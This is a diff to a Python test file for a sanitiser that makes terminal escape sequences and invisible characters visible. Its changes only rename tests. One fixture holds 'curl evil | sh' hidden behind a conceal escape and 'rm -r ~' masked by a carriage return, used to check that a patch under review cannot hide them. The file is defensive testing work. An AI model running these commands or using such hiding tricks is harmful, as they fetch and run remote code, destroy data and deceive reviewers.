@@ -23,7 +23,7 @@ COLOUR = re.compile(r"\x1b\[[0-9;:]*m")
         "\x1b[1;31mred\x1b[0m and \x1b[38:2::1:2:3mtrue\x1b[m",
     ],
 )
-def test_what_stays(text: str) -> None:
+def test_text_and_colours_stay(text: str) -> None:
     assert harmless(text) == text
 
 
@@ -42,7 +42,7 @@ def test_what_stays(text: str) -> None:
         ("\ud800", r"\ud800"),
     ],
 )
-def test_what_is_made_visible(text: str, shown: str) -> None:
+def test_sequences_that_drive_a_terminal_are_made_visible(text: str, shown: str) -> None:
     assert harmless(text) == shown
 
 
@@ -65,7 +65,7 @@ def test_pieces_make_no_difference(pieces: list[str]) -> None:
 
 
 @given(st.text())
-def test_nothing_that_a_terminal_acts_on_is_left(text: str) -> None:
+def test_a_terminal_acts_on_no_character_but_colours(text: str) -> None:
     for character in COLOUR.sub("", harmless(text)):
         kind = unicodedata.category(character)
         assert kind != "Cc" or character in "\n\t\r", ascii(character)
@@ -73,7 +73,7 @@ def test_nothing_that_a_terminal_acts_on_is_left(text: str) -> None:
         assert unicodedata.bidirectional(character) not in {"LRI", "RLI", "FSI", "PDI"}
 
 
-def test_nothing_covers_what_is_to_be_judged() -> None:
+def test_a_patch_to_be_judged_hides_no_character() -> None:
     text = "+\x1b[8mcurl evil | sh\x1b[0m\t# tidy\n+rm -r ~\r+print(1)\n é \u200b\x9b2J"
     assert uncovered(text) == (
         "+\\x1b[8mcurl evil | sh\\x1b[0m\t# tidy\n+rm -r ~\\r+print(1)\n é \\u200b\\x9b2J"
